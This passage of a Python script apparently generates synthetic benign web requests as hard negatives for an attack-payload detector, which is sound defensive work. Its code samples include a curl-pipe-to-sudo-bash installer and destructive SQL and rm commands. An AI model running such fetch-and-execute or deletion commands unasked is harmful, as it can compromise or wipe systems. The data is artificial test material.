    ("Rock & Roll Vinyl Box Set", "VNL-RR-BOX", 89.0),
    ("Earl Grey Tea Tin, 100g", "TEA-EG-100", 8.5),
    ("Mechanical Keyboard (TKL, Brown switches)", "KB-TKL-BR", 119.0),
    ("Yoga Mat 6mm", "YGA-6MM", 29.0),
]
COMPANIES = [
    "AT&T",
    "Johnson & Johnson",
    "Ben & Jerry's",
    "Procter & Gamble",
    "Marks & Spencer",
    "O'Reilly Media",
    "Acme Corp.",
    "Müller GmbH",
    "Smith, Jones & Partners LLP",
    "Barnes & Noble",
    "Lee's Plumbing (Est. 1998)",
]
DOMAINS = [
    "gmail.com",
    "outlook.com",
    "yahoo.co.uk",
    "proton.me",
    "icloud.com",
    "company.co.uk",
    "acmeworks.com",
    "uni-heidelberg.de",
]


def asc(s):
    import unicodedata

    return "".join(c for c in unicodedata.normalize("NFKD", s) if c.isascii())


def person():
    f, l = R.choice(FIRST), R.choice(LAST)
    return f, l


def email_for(f, l):
    import unicodedata

    def ascii_(s):
        return (
            "".join(c for c in unicodedata.normalize("NFKD", s) if c.isascii())
            .lower()
            .replace("'", "")
            .replace(" ", "")
        )

    return f"{ascii_(f)}.{ascii_(l)}{R.choice(['', '', str(R.randint(1, 99)), '+shop'])}@{R.choice(DOMAINS)}"


def run_makers(label, category, makers, n):
    begin(label, category)
    seen = set()
    i = 0
    guard = 0
    while _COUNT.get((label, category), 0) < n:
        mk = makers[i % len(makers)]
        i += 1
        guard += 1
        assert guard < n * 30, (category, _COUNT.get((label, category)))
        mk()
        key = ROWS[-1]["payload"]
        if key in seen:
            ROWS.pop()
            _COUNT[(label, category)] -= 1
        else:
            seen.add(key)


def gen_benign_api_json():
    notes_plain = [
        "Leave at front door",
        "Ring twice please",
        "Gift - no invoice in the box",
        "Deliver after 5pm",
        "Call on arrival",
        "Side entrance",
        "Weekday delivery only",
        "Reception desk, 2nd floor",
    ]
    notes_fp = [
        "Please don't ring the bell; baby sleeping (thanks!)",
        "Gate code is #4521 - leave it behind the bins, not on the step",
        "It's a gift for my mum's 60th -- please remove the price tag :)",
        "Back door only; the front one's broken (landlord's fixing it)",
        "If nobody's home, leave with No. 14 (Mrs. O'Hara)",
        "Fragile!! Glass inside & the box was crushed last time",
        "Drop it in the 'Parcels' locker; PIN = last 4 digits of my phone",
    ]

    def order(fp):
        def _():
            f, l = person()
            city = R.choice(CITIES)
            items = [
                {"sku": p[1], "quantity": R.randint(1, 3), "unit_price": p[2]}
                for p in R.sample(PRODUCTS, R.randint(1, 3))
            ]
            note = R.choice(notes_fp if fp else notes_plain)
            J(
                "POST",
                "/api/v1/orders",
                {
                    "customer_id": "cus_" + rtoken(14),
                    "currency": R.choice(["USD", "EUR", "GBP"]),
                    "items": items,
                    "shipping_address": {
                        "name": f"{f} {l}",
                        "line1": R.choice(STREETS),
                        "city": city[0],
                        "region": city[1],
                        "postal_code": city[2],
                        "country": city[3],
                    },
                    "delivery_notes": PH,
                },
                note,
                hard=fp,
            )

        return _

    def profile():
        f, l = person()
        J(
            "PATCH",
            "/api/v1/users/me",
            {
                "first_name": f,
                "last_name": PH,
                "timezone": R.choice(["Europe/Dublin", "America/New_York", "Asia/Tokyo", "Europe/Berlin"]),
                "newsletter": R.choice([True, False]),
            },
            l,
            hard="'" in l,
        )

    def ticket(fp):
        def _():
            subj = (
                R.choice(
                    [
                        "Can't export invoices to PDF",
                        "Password reset email never arrives",
                        "Charged twice for order #" + str(R.randint(10000, 99999)),
                        "App crashes on iOS 18 when opening settings",
                        "How do I add a second admin?",
                    ]
                )
                if fp
                else R.choice(
                    [
                        "Update billing address",
                        "Request for invoice copy",
                        "Change of plan",
                        "Feature request: dark mode",
                        "Onboarding call",
                    ]
                )
            )
            J(
                "POST",
                "/api/v2/tickets",
                {
                    "subject": PH,
                    "priority": R.choice(["low", "normal", "high"]),
                    "requester": {"email": email_for(*person())},
                    "tags": R.sample(["billing", "mobile", "export", "account", "ios"], 2),
                },
                subj,
                hard=fp,
            )

        return _

    def analytics():
        ev = R.choice(
            [
                "Product Viewed",
                "Checkout Started",
                "Order Completed",
                "Signed Up",
                "Coupon Applied",
                "Cart Viewed",
                "Search Performed",
            ]
        )
        J(
            "POST",
            "/v1/batch",
            {
                "batch": [
                    {
                        "type": "track",
                        "event": PH,
                        "userId": "u_" + rhex(10),
                        "properties": {"sku": R.choice(PRODUCTS)[1], "value": round(R.uniform(5, 300), 2)},
                        "timestamp": f"2026-12-0{R.randint(1, 5)}T{R.randint(10, 23)}:{R.randint(10, 59)}:{R.randint(10, 59)}.{R.randint(100, 999)}Z",
                    }
                ],
                "sentAt": "2026-12-05T10:00:00.000Z",
            },
            ev,
        )

    def invoice():
        desc = R.choice(
            [
                "Consulting - November",
                "Website maintenance (Q4)",
                "Design sprint: onboarding flow",
                "Hosting + SSL renewal",
                "Annual licence, 25 seats",
            ]
        )
        J(
            "POST",
            "/api/v1/invoices",
            {
                "customer": "cus_" + rtoken(14),
                "due_days": 30,
                "lines": [{"description": PH, "amount": R.randint(100, 9000) * 100, "tax_rate": "txr_" + rtoken(10)}],
            },
            desc,
            hard="(" in desc or "+" in desc,
        )

    def event():
        t = R.choice(
            [
                "Q3 planning (remote)",
                "1:1 Ana / Tom",
                "Team lunch @ Luigi's",
                "Sprint review & retro",
                "Dentist",
                "Board meeting - budget sign-off",
            ]
        )
        J(
            "POST",
            "/api/v1/calendar/events",
            {
                "title": PH,
                "start": "2026-12-1{}T09:30:00+01:00".format(R.randint(0, 9)),
                "end": "2026-12-1{}T10:30:00+01:00".format(R.randint(0, 9)),
                "location": R.choice(["Room 4B", "Zoom", "https://meet.example.com/abc-defg-hij", "Cafeteria"]),
                "attendees": [email_for(*person()) for _ in range(2)],
            },
            t,
            hard=("'" in t or "&" in t or "@" in t),
        )

    def settings():
        loc = R.choice(["en-GB", "de-DE", "fr-CA", "pt-BR", "ja-JP", "es-MX"])
        J(
            "PATCH",
            "/api/v1/settings",
            {
                "locale": PH,
                "notifications": {"email": True, "push": R.choice([True, False]), "sms": False},
                "date_format": "DD/MM/YYYY",
            },
            loc,
        )

    def ci():
        cmd = R.choice(
            [
                "npm ci && npm run build",
                "pip install -r requirements.txt && pytest -q",
                "make build && ./scripts/deploy.sh --env=staging",
                "go test ./... && go build -o bin/app ./cmd/app",
                "bundle exec rake assets:precompile",
            ]
        )
        J(
            "PUT",
            "/api/v1/projects/" + str(R.randint(100, 999)) + "/build-settings",
            {
                "build_command": PH,
                "output_dir": R.choice(["dist", "build", "public"]),
                "node_version": "20.x",
                "env": {"NODE_ENV": "production", "PATH": "/usr/local/bin:/usr/bin:/bin"},
            },
            cmd,
            hard=True,
        )

    def odata():
        flt = R.choice(
            [
                "status eq 'active' and price lt 100",
                "startswith(name, 'O''Brien')",
                "created_at ge 2026-01-01 and region in ('EU','UK')",
                "contains(title, 'select') or contains(title, 'union')",
            ]
        )
        J(
            "POST",
            "/api/v1/reports/query",
            {"entity": "products", "filter": PH, "orderby": "created_at desc", "select": "id,name,price", "top": 50},
            flt,
            hard=True,
        )

    def where():
        term = R.choice(["Union Station", "Drop-off points", "Select Comfort", "Script writing", "Exec summary"])
        J(
            "POST",
            "/api/v1/posts/query",
            {
                "where": {"status": "published", "title": {"contains": PH}},
                "orderBy": [{"createdAt": "desc"}],
                "take": 20,
            },
            term,
            hard=True,
        )

    def email_tpl():
        sub = R.choice(
            [
                "Your order {{ order.number }} has shipped",
                "Hi {{ customer.first_name }}, your cart misses you",
                "{{ shop.name }}: receipt for {{ order.name }}",
                "Welcome aboard, {{ first_name | default: 'friend' }}!",
            ]
        )
        J(
            "PUT",
            "/api/v1/notifications/templates/" + R.choice(["order_shipped", "abandoned_cart", "receipt", "welcome"]),
            {
                "subject": PH,
                "body_html": '<p>Hi {{ customer.first_name }},</p><p>Thanks for shopping with us.</p>{% if order.tracking_url %}<a href="{{ order.tracking_url }}">Track it</a>{% endif %}',
            },
            sub,
            hard=True,
        )

    def schema():
        JK(
            "POST",
            "/api/v1/schemas",
            {
                "$schema": "https://json-schema.org/draft/2020-12/schema",
                "$id": "https://schemas.shopwave.io/order-" + str(R.randint(1, 99)) + ".json",
                "type": "object",
                "required": ["id", "total"],
                "properties": {"id": {"type": "string"}, "total": {"type": "number", "minimum": 0}},
            },
            "$schema",
            hard=True,
        )

    def schema_ref():
        JK(
            "POST",
            "/api/v1/openapi/components",
            {
                "Order": {
                    "type": "object",
                    "properties": {
                        "customer": {"$ref": "#/components/schemas/Customer"},
                        "lines": {
                            "type": "array",
                            "items": {"$ref": "#/components/schemas/Line" + str(R.randint(1, 9))},
                        },
                    },
                }
            },
            "$ref",
            hard=True,
        )

    def i18n():
        k = R.choice(
            ["checkout.place_order", "cart.empty_title", "nav.sign_out", "errors.card_declined", "profile.save"]
        )
        JK(
            "PUT",
            "/api/v1/i18n/fr-FR",
            {
                PH: R.choice(
                    ["Passer la commande", "Votre panier est vide", "Se déconnecter", "Carte refusée", "Enregistrer"]
                )
            },
            k,
        )

    def meta():
        k = R.choice(["utm_campaign", "utm_source", "referrer_code", "ab_variant", "signup_flow"])
        JK(
            "POST",
            "/api/v1/customers",
            {
                "email": email_for(*person()),
                "metadata": {PH: R.choice(["black-friday", "newsletter", "B", "v2", "FRIEND10"])},
            },
            k,
        )

    def jsonld():
        p = R.choice(PRODUCTS)
        JK(
            "PUT",
            "/api/v1/pages/" + p[1].lower() + "/structured-data",
            {
                "@context": "https://schema.org",
                "@type": "Product",
                "name": p[0],
                "sku": p[1],
                "offers": {"@type": "Offer", "price": str(p[2]), "priceCurrency": "USD"},
            },
            "@context",
            hard=True,
        )

    def inventory():
        reason = R.choice(
            [
                "Damaged in transit (box crushed)",
                "Stock count correction",
                "Returned by customer",
                "Found 3 extra units in bay C-12",
                "Shrinkage",
            ]
        )
        J(
            "POST",
            "/api/v1/inventory/adjustments",
            {
                "sku": R.choice(PRODUCTS)[1],
                "delta": R.randint(-5, 5) or 1,
                "reason": PH,
                "location": "WH-" + str(R.randint(1, 4)),
            },
            reason,
            hard="(" in reason,
        )

    def flag():
        rule = R.choice(
            [
                "user.country == 'DE' && user.plan != 'free'",
                'account.seats >= 10 || account.tier == "enterprise"',
                "request.path.startsWith('/beta/')",
            ]
        )
        J(
            "PUT",
            "/api/v1/flags/new-checkout",
            {"enabled": True, "rollout": R.randint(5, 50), "rule": PH},
            rule,
            hard=True,
        )

    def webhook_sub():
        ev = R.choice(["order.created", "invoice.paid", "customer.updated", "refund.issued"])
        J(
            "POST",
            "/api/v1/webhook-subscriptions",
            {
                "topic": PH,
                "address": "https://hooks."
                + R.choice(["zapier.com/hooks/catch/123/abc", "slack.com/services/T000/B000/XXXX"]),
                "format": "json",
            },
            ev,
        )

    def comment():
        t = R.choice(
            [
                "Moved to QA -- see PR #412 (fixes the 'double charge' bug)",
                "Blocked: waiting on legal's sign-off; ETA Friday?",
                "Reverted in 3f9c2e1; the migration dropped the index on orders(email) :(",
                "LGTM. Let's ship it & monitor error rates.",
            ]
        )
        J(
            "POST",
            "/api/v1/tasks/" + str(R.randint(1000, 9999)) + "/comments",
            {"text": PH, "notify": True},
            t,
            hard=True,
        )

    def product():
        d = R.choice(
            [
                '5.5" display, 128GB<br>Unlocked',
                'Size: 10"x12" (25x30cm)<br>Material: 100% cotton',
                "Includes: charger & case; batteries not included",
            ]
        )
        J(
            "POST",
            "/api/v1/products",
            {"title": R.choice(PRODUCTS)[0], "description": PH, "price": round(R.uniform(10, 500), 2), "tags": ["new"]},
            d,
            hard=True,
        )

    def invite():
        e = email_for(*person())
        J(
            "POST",
            "/api/v1/team/invitations",
            {"email": PH, "role": R.choice(["viewer", "editor", "admin"]), "message": "Join us on Trellisly!"},
            e,
            hard=False,
        )

    def saved_filter():
        q = R.choice(
            [
                "due_date < now() - 30d AND status != 'paid'",
                "amount > 1000 OR customer.vip = true",
                "tag:'urgent' -assignee:me",
            ]
        )
        J(
            "POST",
            "/api/v1/saved-views",
            {"name": R.choice(["Overdue > 30 days", "Big invoices", "My urgent"]), "query": PH, "shared": False},
            q,
            hard=True,
        )

    def device():
        tok = rhex(64)
        J(
            "POST",
            "/api/v1/devices",
            {"push_token": PH, "platform": R.choice(["ios", "android"]), "app_version": "6.4." + str(R.randint(0, 9))},
            tok,
        )

    def payment():
        d = (
            "Order #"
            + str(R.randint(10000, 99999))
            + " - "
            + R.choice(["2x T-shirt", "1x Yoga Mat", "Gift card", "Subscription (monthly)"])
        )
        J(
            "POST",
            "/api/v1/payment_intents",
            {"amount": R.randint(500, 50000), "currency": "eur", "description": PH, "capture_method": "automatic"},
            d,
        )

    def timesheet():
        n = R.choice(
            [
                "Fixed cron (*/5 * * * *) on build box",
                "Reviewed PR; tests pass locally",
                "Client call re: SOW v2",
                "Deploy to prod + smoke tests",
            ]
        )
        J(
            "POST",
            "/api/v1/timesheets/entries",
            {
                "project": "Internal / Ops",
                "hours": R.choice([0.5, 1, 1.5, 2]),
                "note": PH,
                "date": "2026-12-0" + str(R.randint(1, 5)),
            },
            n,
            hard="*" in n or ";" in n,
        )

    def geo():
        lbl = R.choice(
            ["Café de l'Époque", "Joe's Pizza", "Gare du Nord", "Müller's Bakery", "Central Park (Bethesda Terrace)"]
        )
        J(
            "POST",
            "/api/v1/places",
            {"label": PH, "lat": round(R.uniform(-60, 60), 6), "lng": round(R.uniform(-120, 120), 6)},
            lbl,
            hard="'" in lbl or "(" in lbl,
        )

    def agent_cfg():
        pth = R.choice(
            [
                "/var/log/nginx/access.log",
                "/var/log/app/*.log",
                "/opt/app/logs/worker-*.log",
                "C:\\ProgramData\\App\\logs\\service.log",
            ]
        )
        J(
            "PUT",
            "/api/v1/agents/" + rhex(8) + "/config",
            {"inputs": [{"type": "file", "path": PH, "multiline": False}], "flush_interval": "10s"},
            pth,
            hard=True,
        )

    def xml_order():
        sku = R.choice(PRODUCTS)[1]
        X(
            "POST",
            "/api/v1/orders.xml",
            f'<?xml version="1.0" encoding="UTF-8"?>\n<order><customer-id>{R.randint(1000, 9999)}</customer-id><line><sku>@@PAYLOAD@@</sku><qty>{R.randint(1, 4)}</qty></line></order>',
            sku,
        )

    makers = [
        order(False),
        order(True),
        profile,
        ticket(False),
        ticket(True),
        analytics,
        invoice,
        event,
        settings,
        ci,
        odata,
        where,
        email_tpl,
        schema,
        schema_ref,
        i18n,
        meta,
        jsonld,
        inventory,
        flag,
        webhook_sub,
        comment,
        product,
        invite,
        saved_filter,
        device,
        payment,
        timesheet,
        geo,
        agent_cfg,
        xml_order,
    ]
    run_makers("benign", "benign_api_json", makers, 76)


def png_bytes(n):
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(R.getrandbits(8) for _ in range(n))


def jpg_bytes(n):
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(
        R.getrandbits(8) for _ in range(n)
    )


def gen_benign_base64():
    import gzip

    def avatar():
        d = b64(png_bytes(R.randint(60, 180)))
        J("POST", "/api/v1/users/me/avatar", {"filename": "avatar.png", "content_type": "image/png", "data": PH}, d)

    def data_uri():
        d = "data:image/jpeg;base64," + b64(jpg_bytes(R.randint(80, 200)))
        J("PUT", "/api/v1/profile/photo", {"image": PH}, d, hard=True)

    def pdf():
        d = b64(
            b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
            + bytes(R.getrandbits(8) for _ in range(R.randint(60, 160)))
        )
        J(
            "POST",
            "/api/v1/mail/send",
            {
                "to": email_for(*person()),
                "subject": "Your invoice",
                "attachments": [
                    {
                        "filename": "invoice-" + str(R.randint(1000, 9999)) + ".pdf",
                        "content": PH,
                        "type": "application/pdf",
                    }
                ],
            },
            d,
        )

    def cursor():
        c = b64u(
            json.dumps({"id": R.randint(1000, 999999), "ts": R.randint(1733000000, 1733400000)}, separators=(",", ":"))
        )
        Q("/api/v1/orders", "cursor", c, pre="limit=50&")

    def state():
        s = b64u(
            json.dumps(
                {"return_to": R.choice(["/dashboard", "/settings/billing", "/projects/42"]), "nonce": rtoken(16)},
                separators=(",", ":"),
            )
        )
        Q("/oauth/callback", "state", s, pre="code=" + rtoken(20) + "&")

    def basic():
        f, l = person()
        v = "Basic " + b64(email_for(f, l) + ":" + rtoken(14))
        H("GET", "/api/v1/account", "Authorization", v)

    def shopify_hmac():
        v = b64(bytes(R.getrandbits(8) for _ in range(32)))
        H(
            "POST",
            "/webhooks/shopify/orders-create",
            "X-Shopify-Hmac-Sha256",
            v,
            body='{"id":' + str(R.randint(10**11, 10**12)) + ',"email":"' + email_for(*person()) + '"}',
            ctype="application/json",
        )

    def signature():
        d = "data:image/png;base64," + b64(png_bytes(R.randint(100, 220)))
        F(
            "POST",
            "/delivery/confirm",
            [("order", str(R.randint(10000, 99999))), ("signed_by", " ".join(person())), ("signature", PH)],
            d,
            hard=True,
        )

    def csv_b64():
        rows = "name,email,plan\n" + "\n".join(
            f"{f} {l},{email_for(f, l)},{R.choice(['free', 'pro'])}" for f, l in (person() for _ in range(3))
        )
        J("POST", "/api/v1/imports", {"type": "contacts", "file_b64": PH}, b64(rows))

    def sql_b64():
        sql = R.choice(
            [
                "CREATE INDEX CONCURRENTLY idx_orders_email ON orders (email);\n",
                "ALTER TABLE users ADD COLUMN last_seen_at timestamptz;\nUPDATE users SET last_seen_at = now();\n",
                "-- 0042\nDROP TABLE IF EXISTS tmp_import;\nCREATE TABLE tmp_import (id bigint, payload jsonb);\n",
            ]
        )
        J(
            "POST",
            "/api/v1/deploys/" + rhex(7) + "/migrations",
            {"name": "00" + str(R.randint(10, 99)) + "_schema.sql", "content": PH, "encoding": "base64"},
            b64(sql),
            hard=True,
        )

    def html_b64():
        h = (
            "<html><body><h1>Hello {{name}}</h1><p>Your code is <b>"
            + str(R.randint(100000, 999999))
            + '</b>.</p><a href="https://app.trellisly.com/verify">Verify</a></body></html>'
        )
        J("POST", "/api/v1/email/templates", {"name": "verify", "html_b64": PH}, b64(h), hard=True)

    def gz():
        raw = json.dumps([{"metric": "cpu", "v": round(R.random(), 3)} for _ in range(4)]).encode()
        d = b64(gzip.compress(raw, mtime=0))
        J("POST", "/api/v1/metrics/ingest", {"encoding": "gzip+base64", "payload": PH}, d)

    def cookie_b64():
        v = b64(json.dumps({"items": [{"sku": R.choice(PRODUCTS)[1], "q": R.randint(1, 3)}]}, separators=(",", ":")))
        C("/cart", "cart_b64", v, others=["currency=USD"])

    def k8s():
        v = b64(rtoken(18))
        J(
            "POST",
            "/api/v1/namespaces/default/secrets",
            {
                "apiVersion": "v1",
                "kind": "Secret",
                "metadata": {"name": "db-credentials"},
                "type": "Opaque",
                "data": {"username": b64("app_user"), "password": PH},
            },
            v,
        )

    def pem():
        der = (
            bytes.fromhex("30820122300d06092a864886f70d01010105000382010f003082010a0282010100")
            + bytes([R.getrandbits(8) | 0x80])
            + bytes(R.getrandbits(8) for _ in range(255))
            + bytes.fromhex("0203010001")
        )
        body = b64(der)
        v = (
            "-----BEGIN PUBLIC KEY-----\n"
            + "\n".join(body[i : i + 64] for i in range(0, len(body), 64))
            + "\n-----END PUBLIC KEY-----\n"
        )
        J("POST", "/api/v1/integrations/keys", {"name": "partner-" + rtoken(4).lower(), "public_key": PH}, v, hard=True)

    def sshkey():
        f, l = person()
        v = (
            "ssh-ed25519 "
            + b64(b"\x00\x00\x00\x0bssh-ed25519\x00\x00\x00\x20" + bytes(R.getrandbits(8) for _ in range(32)))
            + " "
            + email_for(f, l)
        )
        F("POST", "/settings/keys", [("title", "laptop"), ("key", PH)], v, hard=True)

    def saml():
        xml = (
            '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_'
            + rhex(32)
            + '" Version="2.0" IssueInstant="2026-12-05T09:12:44Z" '
            'Destination="https://app.trellisly.com/saml/acs"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://idp.acmeworks.com</saml:Issuer>'
            '<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status></samlp:Response>'
        )
        F("POST", "/saml/acs", [("SAMLResponse", PH), ("RelayState", "/dashboard")], b64(xml), hard=True)

    def pixel():
        v = b64u(
            json.dumps(
                {"event": "open", "campaign": "nov-" + str(R.randint(1, 30)), "rid": rhex(12)}, separators=(",", ":")
            )
        )
        Q("/t/open.gif", "d", v)

    def plusslash():
        raw_bytes = bytes(R.getrandbits(8) for _ in range(30))
        v = b64(raw_bytes)
        if "+" not in v and "/" not in v:
            v = v[:5] + "+/" + v[7:]
        Q("/api/v1/reset-password", "token", v, hard=True)

    def soap_attach():
        d = b64(b"%PDF-1.4\n" + bytes(R.getrandbits(8) for _ in range(90)))
        X(
            "POST",
            "/services/DocumentArchive",
            soap(
                "<tns:Store><tns:Name>contract-"
                + str(R.randint(100, 999))
                + ".pdf</tns:Name><tns:Data>@@PAYLOAD@@</tns:Data></tns:Store>"
            ),
            d,
        )

    def client_data():
        v = b64(bytes(R.getrandbits(8) for _ in range(R.randint(20, 40))))
        H("GET", "/", "X-Client-Data", v, kind="web")

    def wskey():
        v = b64(bytes(R.getrandbits(8) for _ in range(16)))
        H(
            "GET",
            "/ws/notifications",
            "Sec-WebSocket-Key",
            v,
            extra={"Upgrade": "websocket", "Connection": "Upgrade", "Sec-WebSocket-Version": "13"},
        )

    def gh_contents():
        md = (
            "# "
            + R.choice(["shopwave-cli", "trellis-sdk", "infra-notes"])
            + "\n\nInstall with `pip install "
            + R.choice(["shopwave", "trellis"])
            + "`.\n"
        )
        J(
            "PUT",
            "/repos/acme/" + rtoken(6).lower() + "/contents/README.md",
            {"message": "docs: update README", "content": PH, "branch": "main"},
            b64(md),
        )

    def user_data():
        sh = (
            '#!/bin/bash\nset -euo pipefail\napt-get update -y\napt-get install -y nginx\nsystemctl enable --now nginx\necho "'
            + rtoken(6)
            + '" > /etc/hostname-tag\n'
        )
        J(
            "POST",
            "/api/v1/instances",
            {"image": "ubuntu-24.04", "size": R.choice(["s-1vcpu-1gb", "s-2vcpu-4gb"]), "user_data": PH},
            b64(sh),
            hard=True,
        )

    def mp_b64():
        d = b64(jpg_bytes(R.randint(60, 140)))
        M("/api/v1/receipts", [("merchant", R.choice(["Tesco", "Whole Foods", "REWE"])), ("image_base64", PH)], d)

    makers = [
        avatar,
        data_uri,
        pdf,
        cursor,
        state,
        basic,
        shopify_hmac,
        signature,
        csv_b64,
        sql_b64,
        html_b64,
        gz,
        cookie_b64,
        k8s,
        pem,
        sshkey,
        saml,
        pixel,
        plusslash,
        soap_attach,
        client_data,
        wskey,
        gh_contents,
        user_data,
        mp_b64,
    ]
    run_makers("benign", "benign_base64", makers, 76)


CODE_SNIPPETS = [
    (
        "python",
        "main.py",
        "def fib(n):\n    a, b = 0, 1\n    for _ in range(n):\n        a, b = b, a + b\n    return a\n\nprint([fib(i) for i in range(10)])\n",
        False,
    ),
    (
        "python",
        "fetch.py",
        'import requests\n\nresp = requests.get("https://api.github.com/repos/python/cpython", timeout=5)\nresp.raise_for_status()\nprint(resp.json()["stargazers_count"])\n',
        False,
    ),
    (
        "python",
        "report.py",
        'import pandas as pd\n\ndf = pd.read_csv("sales.csv", parse_dates=["date"])\nmonthly = df.groupby(df["date"].dt.to_period("M"))["amount"].sum()\nprint(monthly.tail(12))\n',
        False,
    ),
    (
        "python",
        "settings.py",
        'import os\n\nBASE_DIR = os.path.dirname(os.path.abspath(__file__))\nSTATIC_ROOT = os.path.join(BASE_DIR, "static")\nDEBUG = os.environ.get("DEBUG", "0") == "1"\n',
        True,
    ),
    (
        "python",
        "git_helper.py",
        'import subprocess\n\ndef current_branch():\n    out = subprocess.run(["git", "rev-parse", "--abbrev-ref", "HEAD"], capture_output=True, text=True, check=True)\n    return out.stdout.strip()\n',
        True,
    ),
    (
        "python",
        "safe_eval.py",
        "import ast\n\n# ast.literal_eval only parses literals, unlike eval()\nconfig = ast.literal_eval(\"{'retries': 3, 'timeout': 2.5}\")\n",
        True,
    ),
    (
        "javascript",
        "debounce.js",
        "export function debounce(fn, wait = 200) {\n  let t;\n  return (...args) => {\n    clearTimeout(t);\n    t = setTimeout(() => fn.apply(this, args), wait);\n  };\n}\n",
        False,
    ),
    (
        "javascript",
        "api.js",
        "async function loadItems() {\n  const res = await fetch('/api/items?limit=20', { headers: { Accept: 'application/json' } });\n  if (!res.ok) throw new Error(`HTTP ${res.status}`);\n  return res.json();\n}\n",
        False,
    ),
    (
        "javascript",
        "render.js",
        "const el = document.querySelector('#preview');\nel.innerHTML = DOMPurify.sanitize(marked.parse(textarea.value));\n",
        True,
    ),
    (
        "javascript",
        "server.js",
        "app.get('/users/:id', async (req, res) => {\n  const user = await db.query('SELECT id, name FROM users WHERE id = $1', [req.params.id]);\n  res.json(user.rows[0] ?? null);\n});\n",
        True,
    ),
    (
        "sql",
        "weekly.sql",
        "SELECT o.id, c.name, o.total\nFROM orders o\nJOIN customers c ON c.id = o.customer_id\nWHERE o.created_at > NOW() - INTERVAL '7 days'\nORDER BY o.created_at DESC;\n",
        True,
    ),
    (
        "sql",
        "dupes.sql",
        "-- find duplicate emails\nSELECT email, COUNT(*) AS n\nFROM users\nGROUP BY email\nHAVING COUNT(*) > 1;\n",
        True,
    ),
    (
        "sql",
        "cleanup.sql",
        "BEGIN;\nDROP TABLE IF EXISTS tmp_import;\nDELETE FROM sessions WHERE expires_at < now();\nCOMMIT;\n",
        True,
    ),
    (
        "sql",
        "union.sql",
        "SELECT name, price FROM products\nUNION ALL\nSELECT name, price FROM archived_products\nORDER BY name;\n",
        True,
    ),
    (
        "sql",
        "schema.sql",
        "CREATE TABLE invoices (\n  id bigserial PRIMARY KEY,\n  customer_id bigint NOT NULL REFERENCES customers(id),\n  total numeric(12,2) NOT NULL DEFAULT 0\n);\n",
        False,
    ),
    ("bash", "rotate.sh", '#!/usr/bin/env bash\nfor f in /var/log/myapp/*.log; do\n  gzip -9 "$f"\ndone\n', True),
    (
        "bash",
        "install.sh",
        "curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -\nsudo apt-get install -y nodejs\n",
        True,
    ),
    ("bash", "cleanup.sh", "find . -name '*.pyc' -delete && rm -rf build/ dist/ *.egg-info\n", True),
    (
        "bash",
        "backup.sh",
        'tar -czf "backup-$(date +%F).tar.gz" /var/www/html && aws s3 cp backup-*.tar.gz s3://acme-backups/\n',
        True,
    ),
    (
        "bash",
        "k8s.sh",
        "kubectl get pods -n payments -o wide\nkubectl logs deploy/api --since=1h | grep -i timeout\n",
        False,
    ),
    (
        "go",
        "main.go",
        'package main\n\nimport "fmt"\n\nfunc main() {\n\tfor i := 0; i < 3; i++ {\n\t\tfmt.Printf("hello %d\\n", i)\n\t}\n}\n',
        False,
    ),
    (
        "rust",
        "main.rs",
        'fn main() {\n    let v: Vec<i32> = (1..=5).map(|x| x * x).collect();\n    println!("{:?}", v);\n}\n',
        False,
    ),
    (
        "java",
        "Hello.java",
        'public class Hello {\n    public static void main(String[] args) {\n        System.out.println(String.join(", ", args));\n    }\n}\n',
        False,
    ),
    (
        "c",
        "hello.c",
        '#include <stdio.h>\n\nint main(void) {\n    char buf[64];\n    if (fgets(buf, sizeof buf, stdin)) printf("%s", buf);\n    return 0;\n}\n',
        False,
    ),
    (
        "php",
        "header.php",
        "<?php $title = $page['title'] ?? 'Home'; ?>\n<h1><?php echo htmlspecialchars($title, ENT_QUOTES, 'UTF-8'); ?></h1>\n",
        True,
    ),
    ("ruby", "report.rb", 'users.select(&:active?).each do |u|\n  puts "#{u.name} <#{u.email}>"\nend\n', True),
    (
        "yaml",
        "ci.yml",
        "name: CI\non: [push, pull_request]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm test\n",
        True,
    ),
    (
        "dockerfile",
        "Dockerfile",
        'FROM python:3.12-slim\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt\nCOPY . .\nCMD ["gunicorn", "app:app", "-b", "0.0.0.0:8000"]\n',
        False,
    ),
    (
        "nginx",
        "site.conf",
        "location /api/ {\n    proxy_pass http://127.0.0.1:8000;\n    proxy_set_header Host $host;\n    proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n}\n",
        True,
    ),
    (
        "css",
        "card.css",
        ".card {\n  display: grid;\n  grid-template-columns: 1fr 2fr;\n  gap: 1rem;\n}\n.card:hover { box-shadow: 0 2px 8px rgba(0,0,0,.15); }\n",
        False,
    ),
    (
        "html",
        "card.html",
        '<div class="card">\n  <h2>{{ product.title }}</h2>\n  <img src="{{ product.image }}" alt="{{ product.title }}">\n</div>\n',
        True,
    ),
    (
        "powershell",
        "big.ps1",
        "Get-ChildItem -Path C:\\Logs -Recurse | Where-Object { $_.Length -gt 1MB } | Sort-Object Length -Descending\n",
        True,
    ),
    (
        "typescript",
        "types.ts",
        "export interface Order {\n  id: string;\n  total: number;\n  items: Array<{ sku: string; qty: number }>;\n}\n",
        False,
    ),
    (
        "kotlin",
        "Main.kt",
        'fun main() {\n    val names = listOf("Ann", "Bob")\n    names.forEach { println("Hi, $it") }\n}\n',
        False,
    ),
    (
        "swift",
        "View.swift",
        'struct ContentView: View {\n    var body: some View {\n        Text("Hello, world!").padding()\n    }\n}\n',
        False,
    ),
    ("regex", "pattern.txt", "^[a-zA-Z0-9._%+-]+@[a-zA-Z0-9.-]+\\.[a-zA-Z]{2,}$", True),
]


def gen_benign_code():
    ctx = []

    def gist(s):
        def _():
            J(
                "POST",
                "/api/v1/gists",
                {
                    "description": R.choice(
